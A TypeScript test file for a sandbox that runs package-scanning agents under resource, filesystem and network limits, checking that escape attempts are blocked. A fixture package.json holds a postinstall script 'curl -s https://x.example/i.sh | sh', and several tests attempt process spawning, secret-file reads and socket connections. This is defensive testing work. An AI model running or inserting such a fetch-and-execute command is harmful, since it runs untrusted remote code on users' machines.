import { once } from 'node:events';
import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { AgentInput } from '@vigil/core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runAgent, type AgentRunOutcome, type RunAgentOptions } from './run-agent.js';
import { detectSandboxLayers, type SandboxLayers } from './sandbox-layers.js';
import { dirWith, tempDir } from './test-support/temp-dirs.js';

// Every test here starts a real Node process in the sandbox and looks at what a validator would
// see: the result, or the failure_reason docs/agents.md lists, and what did not happen outside.

const ECHO_AGENT = fileURLToPath(new URL('../examples/echo-agent', import.meta.url));
const MiB = 1024 * 1024;

let layers: SandboxLayers;
let artifact: string;

beforeAll(async () => {
  layers = await detectSandboxLayers();
  if (layers.networkNamespace === null) console.warn('[sandbox] no usable `unshare --net` here: the network-namespace layer is not tested');
  if (layers.prlimit === null) console.warn('[sandbox] no usable `prlimit` here: the RLIMIT_CPU/RLIMIT_AS layer is not tested');
  if (process.platform !== 'linux') console.warn('[sandbox] not Linux: /proc usage polling is not tested');
  artifact = await dirWith({ 'package.json': '{"name":"plain","version":"1.0.0"}\n', 'index.js': 'module.exports = 1;\n' });
});

/** A bundle whose entrypoint is `code`. */
async function agent(code: string, entrypoint = 'agent.mjs'): Promise<string> {
  return dirWith({ [entrypoint]: code });
}

function run(bundleDir: string, options: Partial<RunAgentOptions> = {}): Promise<AgentRunOutcome> {
  return runAgent({ bundleDir, entrypoint: 'agent.mjs', artifactDir: artifact, metadata: { track: 'packages' }, budget: { wallMs: 20_000, cpuMs: 10_000 }, ...options });
}

function failure(outcome: AgentRunOutcome): string {
  return outcome.ok ? `ok: ${JSON.stringify(outcome.result)}` : outcome.failureReason;
}

const PRINT_EMPTY_RESULT = `process.stdout.write(JSON.stringify({ verdict: 'ALLOW', risk_score: 0, findings: [] }));`;

describe('a well-behaved agent', () => {
  it('gets its result validated and returned, with what it used', async () => {
    const target = await dirWith({
      'package.json': '{\n  "name": "evil",\n  "version": "1.0.0",\n  "scripts": {\n    "postinstall": "curl -s https://x.example/i.sh | sh"\n  }\n}\n',
      'lib/a.js': '',
    });
    const outcome = await runAgent({ bundleDir: ECHO_AGENT, entrypoint: 'agent.mjs', artifactDir: target, metadata: { track: 'packages' } });
    expect(outcome.ok, failure(outcome)).toBe(true);
    if (!outcome.ok) return;
    expect(outcome.result).toEqual({
      verdict: 'BLOCK',
      risk_score: 85,
      findings: [
        {
          type: 'static',
          category: 'install_script',
          severity: 'HIGH',
          title: 'postinstall script downloads or pipes into a shell',
          file: 'package.json',
          line: 5,
          evidence: 'curl -s https://x.example/i.sh | sh',
        },
      ],
    });
    expect(outcome.elapsedMs).toBeGreaterThan(0);
    if (process.platform === 'linux') {
      expect(outcome.cpuMs).toBeGreaterThan(0);
      expect(outcome.maxRssBytes).toBeGreaterThan(0);
    }
  });

  it('the example agent really looks: a package without install scripts is allowed', async () => {
    const outcome = await runAgent({ bundleDir: ECHO_AGENT, entrypoint: 'agent.mjs', artifactDir: artifact, metadata: { track: 'packages' } });
    expect(outcome.ok && outcome.result).toEqual({ verdict: 'ALLOW', risk_score: 0, findings: [] });
  });

  it('reads the documented input on stdin, runs in the artifact directory and may write its scratch directory', async () => {
    const bundle = await agent(`
      import { readFileSync, writeFileSync } from 'node:fs';
      const input = JSON.parse(readFileSync(0, 'utf8'));
      writeFileSync(input.scratch_dir + '/note.txt', 'kept');
      const facts = { input, cwd: process.cwd(), note: readFileSync(input.scratch_dir + '/note.txt', 'utf8') };
      process.stdout.write(JSON.stringify({ verdict: 'ALLOW', risk_score: 0, findings: [{ type: 'echo', category: 'echo', severity: 'LOW', title: JSON.stringify(facts), file: '.' }] }));
    `);
    const sha256 = `sha256:${'0a'.repeat(32)}`;
    const outcome = await run(bundle, { metadata: { track: 'skills', sha256, bundleHash: 'skills/acme/good' } });
    expect(outcome.ok, failure(outcome)).toBe(true);
    if (!outcome.ok) return;
    const facts = JSON.parse(outcome.result.findings[0]!.title) as { input: unknown; cwd: string; note: string };
    const input = AgentInput.parse(facts.input);
    expect(input.track).toBe('skills');
    expect(input.artifact).toMatchObject({ sha256, bundle_hash: 'skills/acme/good' });
    expect(facts.cwd).toBe(input.artifact.dir);
    expect(input.budget).toEqual({ wall_ms: 20_000, cpu_ms: 10_000, memory_bytes: 512 * MiB, output_bytes: MiB });
    expect(facts.note).toBe('kept');
    // The scratch directory lives only as long as the run.
    expect(existsSync(input.scratch_dir)).toBe(false);
  });

  it('sees none of the validator environment', async () => {
    process.env.VIGIL_TEST_SECRET = 'hunter2';
    try {
      const bundle = await agent(`
        const keys = Object.keys(process.env).sort();
        process.stdout.write(JSON.stringify({ verdict: 'ALLOW', risk_score: 0, findings: keys.map((k) => ({ type: k, category: String(process.env[k]).includes('hunter2') ? 'leak' : 'env', severity: 'LOW', title: k, file: '.' })) }));
      `);
      const outcome = await run(bundle);
      expect(outcome.ok, failure(outcome)).toBe(true);
      if (!outcome.ok) return;
      const keys = outcome.result.findings.map((f) => f.type);
      expect(keys).not.toContain('VIGIL_TEST_SECRET');
      expect(keys).not.toContain('NODE_OPTIONS');
      expect(outcome.result.findings.map((f) => f.category)).not.toContain('leak');
    } finally {
      delete process.env.VIGIL_TEST_SECRET;
    }
  });
});

describe('budgets', () => {
  it('an agent that loops forever is stopped at its CPU budget: cpu_limit', async () => {
    const outcome = await run(await agent('for (;;) {}'), { budget: { cpuMs: 1_000, wallMs: 30_000 } });
    expect(failure(outcome)).toBe('cpu_limit');
  });

  it.skipIf(process.platform !== 'linux')('without prlimit, polling still stops a busy loop at its CPU budget', async () => {
    const outcome = await run(await agent('for (;;) {}'), { budget: { cpuMs: 1_000, wallMs: 30_000 }, layers: { osLimits: false } });
    expect(failure(outcome)).toBe('cpu_limit');
    expect(outcome.enforced.osLimits).toBe(false);
  });

  it('an agent that waits forever is stopped at its wall-clock budget: timeout', async () => {
    const outcome = await run(await agent('setInterval(() => {}, 1000);'), { budget: { wallMs: 1_000 } });
    expect(failure(outcome)).toBe('timeout');
  });

  it.each([
    ['on the V8 heap', 'const keep = []; for (;;) keep.push({ n: Math.random(), s: "x" + Math.random() });'],
    ['in buffers outside the heap', 'const keep = []; for (;;) keep.push(Buffer.alloc(8 * 1024 * 1024, 1));'],
  ])('an agent that allocates without bound %s is stopped: memory_limit', async (_where, code) => {
    const outcome = await run(await agent(code), { budget: { memoryBytes: 128 * MiB } });
    expect(failure(outcome)).toBe('memory_limit');
  });

  it.skipIf(process.platform !== 'linux')('without prlimit, polling still stops off-heap allocation: memory_limit', async () => {
    const outcome = await run(await agent('const keep = []; for (;;) keep.push(Buffer.alloc(8 * 1024 * 1024, 1));'), { budget: { memoryBytes: 128 * MiB }, layers: { osLimits: false } });
    expect(failure(outcome)).toBe('memory_limit');
  });

  it('an agent that prints more than its output budget is stopped: output_too_large', async () => {
    const outcome = await run(await agent('for (;;) process.stdout.write("x".repeat(65536));'), { budget: { outputBytes: 100_000 } });
    expect(failure(outcome)).toBe('output_too_large');
  });

  it('a run the caller aborts ends: aborted', async () => {
    const controller = new AbortController();
    const running = run(await agent('setInterval(() => {}, 1000);'), { signal: controller.signal });
    setTimeout(() => controller.abort(), 200);
    expect(failure(await running)).toBe('aborted');
  });

  it('a budget out of range is the caller’s mistake: RangeError naming the field', async () => {
    await expect(run(await agent(PRINT_EMPTY_RESULT), { budget: { memoryBytes: 1024 } })).rejects.toThrow('budget.memoryBytes: must be an integer of at least 67108864, got 1024');
  });
});

describe('forbidden operations', () => {
  let outside: string;
  beforeAll(async () => {
    outside = await dirWith({ 'secret.txt': 'the validator key' });
  });

  it.each([
    ['spawnSync', `import { spawnSync } from 'node:child_process'; spawnSync(process.execPath, ['-e', 'require("fs").writeFileSync(process.argv[1], "ran")', MARKER]);`],
    ['exec (caught)', `import cp from 'node:child_process'; try { cp.exec('touch ' + MARKER); } catch {} ${PRINT_EMPTY_RESULT}`],
    ['fork', `import { fork } from 'node:child_process'; fork(MARKER);`],
  ])('an agent that starts a process (%s) is stopped: forbidden: child_process', async (_how, code) => {
    const marker = join(await tempDir(), 'ran');
    const outcome = await run(await agent(`const MARKER = ${JSON.stringify(marker)};\n${code}`));
    expect(failure(outcome)).toBe('forbidden: child_process');
    expect(existsSync(marker)).toBe(false);
  });

  it('an agent that starts a worker thread is stopped: forbidden: worker', async () => {
    const outcome = await run(await agent(`import { Worker } from 'node:worker_threads'; new Worker('1', { eval: true });`));
    expect(failure(outcome)).toBe('forbidden: worker');
  });

  it.each([
    ['outside every allowed directory', (dirs: { outside: string; artifact: string }) => join(dirs.outside, 'written.txt')],
    ['into the read-only artifact', (dirs: { outside: string; artifact: string }) => join(dirs.artifact, 'written.txt')],
  ])('an agent that writes %s is stopped, even when it catches the error: forbidden: filesystem', async (_where, target) => {
    const path = target({ outside, artifact });
    const outcome = await run(await agent(`import { writeFileSync } from 'node:fs'; try { writeFileSync(${JSON.stringify(path)}, 'x'); } catch {} ${PRINT_EMPTY_RESULT}`));
    expect(failure(outcome)).toBe('forbidden: filesystem');
    expect(existsSync(path)).toBe(false);
  });

  it.each([
    ['readFileSync', (path: string) => `import { readFileSync } from 'node:fs'; readFileSync(${JSON.stringify(path)}, 'utf8');`],
    ['fs/promises (caught)', (path: string) => `import { readFile } from 'node:fs/promises'; await readFile(${JSON.stringify(path)}).catch(() => null); ${PRINT_EMPTY_RESULT}`],
    ['a read stream', (path: string) => `import { createReadStream } from 'node:fs'; createReadStream(${JSON.stringify(path)}).on('error', () => {}).resume();`],
    ['require of a module outside', (path: string) => `import { createRequire } from 'node:module'; createRequire(import.meta.url)(${JSON.stringify(path)});`],
  ])('an agent that reads a file outside the allowed directories (%s) is stopped: forbidden: filesystem', async (_how, code) => {
    const outcome = await run(await agent(code(join(outside, 'secret.txt'))));
    expect(failure(outcome)).toBe('forbidden: filesystem');
    expect(outcome.stderr).not.toContain('the validator key');
  });

  describe('the network', () => {
    let server: Server;
    let port: number;
    let connections = 0;
    beforeAll(async () => {
      server = createServer((socket) => {
        connections += 1;
        socket.destroy();
      });
      server.listen(0, '127.0.0.1');
      await once(server, 'listening');
      port = (server.address() as { port: number }).port;
    });
    afterAll(() => {
      server.close();
    });

    const attempts: Array<[string, (port: number) => string]> = [
      ['net.connect', (p) => `import { connect } from 'node:net'; connect(${p}, '127.0.0.1').on('error', () => {});`],
      ['http.get', (p) => `import http from 'node:http'; http.get('http://127.0.0.1:${p}/').on('error', () => {});`],
      ['fetch (caught)', (p) => `await fetch('http://127.0.0.1:${p}/').catch(() => null); ${PRINT_EMPTY_RESULT}`],
      ['dns.lookup', () => `import dns from 'node:dns'; dns.lookup('example.com', () => {});`],
      ['the Socket class behind process.stdout', (p) => `new process.stdout.constructor().connect(${p}, '127.0.0.1').on('error', () => {});`],
    ];

    it.each(attempts)('an agent that opens a socket (%s) is stopped and the server sees nothing: forbidden: network', async (_how, code) => {
      const before = connections;
      const outcome = await run(await agent(code(port)));
      expect(failure(outcome)).toBe('forbidden: network');
      // A connection would have been accepted by now: the run has ended.
      await new Promise((resolve) => setImmediate(resolve));
      expect(connections).toBe(before);
    });

    it('with the preload left out, the network namespace alone keeps the connection from happening', async (context) => {
      if (layers.networkNamespace === null) {
        console.warn('[sandbox] skipped: the network namespace layer is unavailable here');
        context.skip();
      }
      const before = connections;
      const outcome = await run(
        await agent(`
          import { connect } from 'node:net';
          const socket = connect(${port}, '127.0.0.1');
          socket.on('connect', () => { process.stdout.write(JSON.stringify({ verdict: 'BLOCK', risk_score: 100, findings: [] })); socket.destroy(); });
          socket.on('error', (error) => process.stdout.write(JSON.stringify({ verdict: 'ALLOW', risk_score: 0, findings: [{ type: error.code, category: 'net', severity: 'LOW', title: error.message, file: '.' }] })));
        `),
        { layers: { preload: false } },
      );
      expect(outcome.enforced).toMatchObject({ preload: false, networkNamespace: true });
      expect(outcome.ok && outcome.result.verdict).toBe('ALLOW');
      expect(connections).toBe(before);
    });
  });

  it('with the preload left out, the permission model alone still refuses processes and files', async () => {
    const spawnOutcome = await run(await agent(`import { spawnSync } from 'node:child_process'; spawnSync('true');`), { layers: { preload: false } });
    expect(failure(spawnOutcome)).toBe('forbidden: child_process');
    const readOutcome = await run(await agent(`import { readFileSync } from 'node:fs'; readFileSync(${JSON.stringify(join(outside, 'secret.txt'))});`), { layers: { preload: false } });
    expect(failure(readOutcome)).toBe('forbidden: filesystem');
    expect(readOutcome.enforced.preload).toBe(false);
  });
});

describe('output and exits', () => {
  it.each([
    ['nothing', '', 'invalid_output: (stdout)'],
    ['a log line before the result', `console.log('starting'); ${PRINT_EMPTY_RESULT}`, 'invalid_output: (stdout)'],
    ['an array', `process.stdout.write('[]');`, 'invalid_output: (root)'],
    ['a bad severity', `process.stdout.write(JSON.stringify({ verdict: 'WARN', risk_score: 40, findings: [{ type: 't', category: 'c', severity: 'SEVERE', title: 't', file: 'f' }] }));`, 'invalid_output: findings.0.severity'],
    ['a finding in a file outside the artifact', `process.stdout.write(JSON.stringify({ verdict: 'WARN', risk_score: 40, findings: [{ type: 't', category: 'c', severity: 'LOW', title: 't', file: '../../../etc/passwd' }] }));`, 'invalid_output: findings.0.file'],
    ['a risk score above 100', `process.stdout.write(JSON.stringify({ verdict: 'WARN', risk_score: 140, findings: [] }));`, 'invalid_output: risk_score'],
  ])('an agent that prints %s fails with invalid_output naming the path', async (_what, code, reason) => {
    expect(failure(await run(await agent(code)))).toBe(reason);
  });

  it('an agent that exits non-zero or throws has crashed, with its exit code', async () => {
    expect(failure(await run(await agent(`${PRINT_EMPTY_RESULT} process.exit(3);`)))).toBe('crashed: exit 3');
    const thrown = await run(await agent(`throw new Error('rules file missing');`));
    expect(failure(thrown)).toBe('crashed: exit 1');
    expect(thrown.ok || thrown.detail).toBe('Error: rules file missing');
    expect(thrown.stderr).toContain('rules file missing');
  });

  it('a CommonJS entrypoint runs too', async () => {
    const outcome = await run(await agent(PRINT_EMPTY_RESULT, 'agent.cjs'), { entrypoint: 'agent.cjs' });
    expect(outcome.ok, failure(outcome)).toBe(true);
  });

  it('an entrypoint that is not a Node script, or not in the bundle, is refused before anything runs', async () => {
    const bundle = await agent(PRINT_EMPTY_RESULT);
    expect(failure(await run(bundle, { entrypoint: 'agent.py' }))).toBe('unsupported_entrypoint: .py');
    expect(failure(await run(bundle, { entrypoint: 'missing.mjs' }))).toBe('invalid_bundle: entrypoint');
    expect(failure(await run(bundle, { entrypoint: '../agent.mjs' }))).toBe('invalid_bundle: entrypoint');
  });
});
